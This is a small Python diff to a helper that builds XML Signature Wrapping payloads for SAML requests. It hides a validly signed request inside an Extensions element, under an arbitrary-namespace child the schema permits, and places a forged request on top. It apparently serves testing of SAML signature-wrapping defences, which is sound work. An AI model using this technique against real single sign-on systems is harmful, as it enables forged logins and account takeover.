@@ -89,10 +89,11 @@ def wrapped(good: dict[str, str], evil: str, how: str) -> dict[str, str]:
     signed = etree.fromstring(base64.b64decode(good["SAMLRequest"]))
     false = etree.fromstring(evil)
     extensions = etree.Element(f"{{{Names.NS_SAMLP}}}Extensions")
+    holder = etree.SubElement(extensions, "{urn:another}any")  # what the schema lets stand there
     false.insert(1, extensions)
     if how == "beside":
         mark = signed.find(f"{{{Names.NS_DS}}}Signature")
         signed.remove(mark)
         false.insert(1, mark)
-    extensions.append(signed)
+    holder.append(signed)
     return {"SAMLRequest": base64.b64encode(etree.tostring(false)).decode()}
